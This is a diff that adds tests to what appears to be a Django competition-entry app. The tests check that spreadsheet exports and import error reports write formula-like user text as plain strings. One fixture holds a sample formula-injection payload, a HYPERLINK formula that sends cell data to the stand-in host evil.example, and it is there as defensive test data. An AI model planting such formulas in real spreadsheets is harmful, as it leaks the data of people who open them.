@@ -541,3 +541,36 @@ def test_import_report_of_someone_else_is_not_found(client, organiser, edition, 
     response = client.get(reverse("entry_spreadsheets:report", args=["not-my-token"]))
 
     assert response.status_code == 404
+
+
+def test_export_writes_formula_like_user_text_as_text(edition):
+    category = CategoryFactory(edition=edition, name="=SUM(1)")
+    formula = '=HYPERLINK("https://evil.example/?leak="&B2,"Kliknij")'
+    EntryFactory(
+        category=category,
+        status=EntryStatus.SUBMITTED,
+        sequence=1,
+        number="SLC-2026-001",
+        title=formula,
+        institution__name="@Gmina",
+        contact_name="-Jan",
+    )
+
+    book = read_back(workbook_bytes(export_workbook(edition, base_url=BASE_URL)))
+
+    row = next(book.worksheets[0].iter_rows(min_row=2))
+    title, institution = row[1], row[2]
+    assert (title.value, title.data_type) == (formula, "s")
+    assert (institution.value, institution.data_type) == ("@Gmina", "s")
+    assert not [
+        c.coordinate for r in book.worksheets[0].iter_rows() for c in r if c.data_type == "f"
+    ]
+
+
+def test_error_report_writes_formula_like_column_name_as_text():
+    problem = ImportProblem(1, "A", "=1+1", "Nieznana kolumna.")
+
+    book = read_back(workbook_bytes(error_report_workbook([problem])))
+
+    cell = book.active["C2"]
+    assert (cell.value, cell.data_type) == ("=1+1", "s")
